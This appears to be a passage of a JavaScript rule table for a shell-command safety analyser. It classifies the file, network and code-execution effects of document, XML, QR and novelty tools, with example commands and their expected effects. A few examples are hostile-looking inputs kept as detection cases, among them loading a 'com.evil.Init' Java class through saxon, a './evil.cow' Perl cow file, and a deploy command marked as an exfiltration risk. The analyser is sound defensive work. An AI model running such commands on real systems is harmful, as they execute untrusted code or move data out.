      { cmd: 'docusaurus build', writes: ['build', 'build/**'], only: true },
      { cmd: 'docusaurus start --port 3001', network: true, only: true },
      { cmd: 'docusaurus start --host 0.0.0.0', unknown: 'serves' },
      { cmd: 'docusaurus deploy', risks: ['exfiltration'] },
      { cmd: 'docusaurus clear', deletes: ['build/**'] },
    ],
  },
  {
    names: ['typst'],
    summary: 'Typst: compile documents',
    options: {
      '--root|--font-path|--package-path': 'read-tree',
      '--package-cache-path': 'write-tree',
      '--color|--cert': 'value',
      '-h|--help|-V|--version': 'flag',
    },
    subcommands: {
      'compile|c|watch|w': {
        options: {
          '--root|--font-path|--package-path': 'read-tree',
          '--input|-f|--format|--pages|--ppi|--pdf-standard|--diagnostic-format|-j|--jobs|--features|--creation-timestamp|--port':
            'value',
          '--make-deps|--deps': 'write',
          '--open|--timings|--ignore-system-fonts|--no-serve|--no-reload|--ignore-embedded-fonts': 'flag',
        },
        operands: ['read', 'write'],
        custom(call) {
          const [input, output] = call.operands;
          if (!output && input?.known && input.text !== '-')
            call.ctx.apply('write', f(input, `${stem(input.text)}.pdf`));
        },
      },
      init: { operands: ['value', 'write-tree'], effects: { network: true } },
      'query|fonts|info': {
        readonly: true,
        options: {
          '--field|--format|--input|--root|--font-path': 'value',
          '--one|--pretty|--variants|--ignore-system-fonts': 'flag',
        },
        operands: ['read', 'value...'],
      },
      update: {
        options: { '--revert|--force': 'flag' },
        effects: { network: true, unknown: 'replaces its own program with a downloaded release' },
      },
    },
    examples: [
      { cmd: 'typst compile paper.typ', reads: ['paper.typ'], writes: ['paper.pdf'], only: true },
      { cmd: 'typst compile --root . paper.typ out/paper.pdf', writes: ['out/paper.pdf'], only: true },
      { cmd: 'typst init @preview/charged-ieee:0.1.0 paper', network: true, writes: ['paper/**'] },
    ],
  },
  {
    names: ['weasyprint'],
    summary: 'render HTML and CSS to PDF',
    options: {
      '-s|--stylesheet|-a|--attachment': 'value',
      '-e|--encoding|-f|--format|-m|--media-type|-u|--base-url|--pdf-identifier|--pdf-variant|--pdf-version|--jpeg-quality|--timeout|-d|--dpi|-O|--optimize-images':
        'value',
      '--cache-folder': 'write-tree',
      '-v|--verbose|--debug|-q|--quiet|--version|-h|--help|--full-fonts|--hinting|--uncompressed-pdf|--custom-metadata|--srgb|-p|--presentational-hints|--pdf-forms':
        'flag',
    },
    operands: ['value', 'write'],
    custom(call) {
      for (const v of call.values('-s', '--stylesheet', '-a', '--attachment')) fileOrUrl(call.ctx, v);
      const [input] = call.operands;
      if (input) fileOrUrl(call.ctx, input);
    },
    examples: [
      {
        cmd: 'weasyprint -s print.css report.html report.pdf',
        reads: ['report.html', 'print.css'],
        writes: ['report.pdf'],
        only: true,
      },
      { cmd: 'weasyprint https://example.com page.pdf', hosts: ['example.com'], writes: ['page.pdf'] },
    ],
  },
  {
    names: ['xmllint'],
    summary: 'parse, validate, format and query XML',
    options: {
      '-o|--output': 'write',
      '--dtdvalid|--schema|--relaxng|--schematron': 'value',
      '--path|--xpath|--encode|--maxmem|--pattern|--pretty|--max-ampl|--dtdvalidfpi': 'value',
      '--shell': { unknown: 'opens an interactive shell reading the terminal, which can write files' },
      '--version|--debug|--debugent|--copy|--recover|--huge|--noent|--noenc|--noout|--nonet|--nocompact|--htmlout|--nowrap|--valid|--postvalid|--dtdattr|--noblanks|--format|--html|--xmlout|--nodefdtd|--push|--pushsmall|--memory|--nowarning|--nocdata|--nsclean|--timing|--auto|--repeat|--insert|--compress|--c14n|--c14n11|--exc-c14n|--stream|--walker|--sax|--sax1|--chkregister|--xinclude|--noxincludenode|--nofixup-base-uris|--loaddtd|--load-trace|--catalogs|--nocatalogs|--oldxml10|--quiet|--testIO|--dropdtd|--noout':
        'flag',
    },
    readonly: true,
    operands: ['value...'],
    custom(call) {
      for (const v of [
        ...call.values('--dtdvalid', '--schema', '--relaxng', '--schematron'),
        ...call.operands,
      ])
        fileOrUrl(call.ctx, v);
    },
    examples: [
      { cmd: 'xmllint --noout --schema schema.xsd doc.xml', reads: ['schema.xsd', 'doc.xml'], only: true },
      { cmd: 'xmllint --format doc.xml -o pretty.xml', writes: ['pretty.xml'], only: true },
      { cmd: "xmllint --xpath '//title/text()' feed.xml", reads: ['feed.xml'], only: true },
      { cmd: 'xmllint --shell doc.xml', unknown: 'interactive shell' },
    ],
  },
  {
    names: ['xsltproc'],
    summary: 'apply XSLT stylesheets',
    operands: ['value...'],
    rewrite: OWN,
    custom: xsltproc,
    examples: [
      {
        cmd: 'xsltproc --stringparam title Hello -o out.html style.xsl doc.xml',
        reads: ['style.xsl', 'doc.xml'],
        writes: ['out.html'],
        executes: ['style.xsl'],
        only: true,
      },
      { cmd: 'xsltproc --nonet --param n 3 style.xsl doc.xml', reads: ['doc.xml'], only: true },
    ],
  },
  {
    names: ['saxon', 'saxonb-xslt', 'saxon-xslt', 'saxonb-xquery', 'saxon-xquery'],
    summary: 'Saxon: apply XSLT stylesheets and XQuery',
    operands: ['value...'],
    rewrite: OWN,
    custom: saxon,
    examples: [
      {
        cmd: 'saxon -s:doc.xml -xsl:style.xsl -o:out.html title=Hi',
        reads: ['doc.xml', 'style.xsl'],
        writes: ['out.html'],
        executes: ['style.xsl'],
        only: true,
      },
      { cmd: 'saxon -ext:on -s:doc.xml -xsl:style.xsl', unknown: 'Java methods' },
      { cmd: 'saxon -init:com.evil.Init -s:a.xml -xsl:b.xsl', unknown: 'Java class' },
    ],
  },
  {
    names: ['tidy'],
    summary: 'clean up and format HTML',
    operands: ['value...'],
    rewrite: OWN,
    custom: tidy,
    examples: [
      { cmd: 'tidy -q -indent -wrap 100 page.html', reads: ['page.html'], only: true },
      { cmd: 'tidy -m -i page.html', writes: ['page.html'], only: true },
      {
        cmd: 'tidy -config tidy.conf -o clean.html page.html',
        reads: ['tidy.conf', 'page.html'],
        writes: ['clean.html'],
        only: true,
      },
      { cmd: 'tidy --write-back yes page.html', writes: ['page.html'], only: true },
    ],
  },
  {
    names: ['qrencode'],
    summary: 'encode data as a QR code',
    options: {
      '-o|--output': 'write',
      '-r|--read-from': 'read',
      '-s|--size|-l|--level|-v|--symversion|-m|--margin|-d|--dpi|-t|--type|--foreground|--background':
        'value',
      '-S|--structured|-k|--kanji|-c|--casesensitive|-i|--ignorecase|-8|--8bit|-M|--micro|--rle|--svg-path|--inline|--strict-version|--verbose|-V|--version|-h|--help':
        'flag',
    },
    operands: ['value...'],
    examples: [
      { cmd: "qrencode -o qr.png -s 8 'https://example.com'", writes: ['qr.png'], only: true },
      { cmd: 'qrencode -t ANSIUTF8 hello', only: true },
    ],
  },
  {
    names: ['zbarimg', 'zbarcam'],
    summary: 'scan bar codes and QR codes in images (zbarcam: from a camera)',
    options: {
      '-S|--set|--prescale': 'value',
      '-q|--quiet|-v|--verbose|-d|--display|--nodisplay|--raw|--xml|--noxml|-1|--oneshot|--nodbus|--polygon|-h|--help|--version':
        'flag',
    },
    operands: ['read...'],
    readonly: true,
    custom(call) {
      if (call.program === 'zbarcam' && call.operands.length === 0) call.ctx.read('/dev/video*');
    },
    examples: [
      { cmd: 'zbarimg -q --raw qr.png', reads: ['qr.png'], only: true },
      { cmd: 'zbarcam --raw', reads: ['/dev/video*'], only: true },
    ],
  },
  {
    names: ['cowsay', 'cowthink'],
    summary: 'a cow says a message',
    options: { '-f': 'value', '-e|-T|-W': 'value', '-b|-d|-g|-p|-s|-t|-w|-y|-l|-n|-h|-r|-C': 'flag' },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      for (const cow of call.values('-f')) {
        if (cow.known && !cow.text.includes('/') && COWS.has(cow.text.replace(/\.cow$/, ''))) continue;
        if (cow.known && cow.text.includes('/')) ctx.apply('read', cow);
        ctx.unknown(`\`${call.program}\` loads the cow file \`${cow.text}\`, which is Perl code`);
      }
    },
    examples: [
      { cmd: 'cowsay -f tux Hello', only: true },
      { cmd: 'echo hi | cowthink', only: true },
      { cmd: 'cowsay -f ./evil.cow hi', unknown: 'Perl code' },
      { cmd: 'cowsay -f mycow hi', unknown: 'Perl code' },
    ],
  },
  {
    names: ['figlet', 'toilet'],
    summary: 'print large letters',
    options: {
      '-f|--font': 'value',
      '-d|--directory': 'read-tree',
      '-C': 'read',
      '-w|--width|-m|-I|--infocode|-F|--filter|-E|--export': 'value',
      '-c|-l|-r|-x|-t|--termwidth|-k|-S|-s|-o|-W|-p|-n|-D|-L|-R|-X|-N|-v|--version|-h|--help|--gay|--metal|--irc|--html':
        'flag',
    },
    operands: ['value...'],
    readonly: true,
    custom(call) {
      for (const font of call.values('-f', '--font'))
        if (font.text.includes('/')) call.ctx.apply('read', font);
    },
    examples: [
      { cmd: 'figlet -f slant Release', only: true },
      { cmd: 'toilet --gay -f mono12 Done', only: true },
    ],
  },
  {
    names: ['lolcat'],
    summary: 'print text in rainbow colours',
    options: {
      '-p|--spread|-F|--freq|-S|--seed|-d|--duration|-s|--speed': 'value',
      '-a|--animate|-i|--invert|-t|--truecolor|-f|--force|-v|--version|-h|--help': 'flag',
    },
    operands: ['read...'],
    readonly: true,
    examples: [{ cmd: 'lolcat -a notes.txt', reads: ['notes.txt'], only: true }],
  },
]);

export default [...AUDIO_VIDEO_IMAGES, ...DOCUMENTS, ...PDF_AUDIO_PLAYERS, ...APPS_DOCS_SITES];
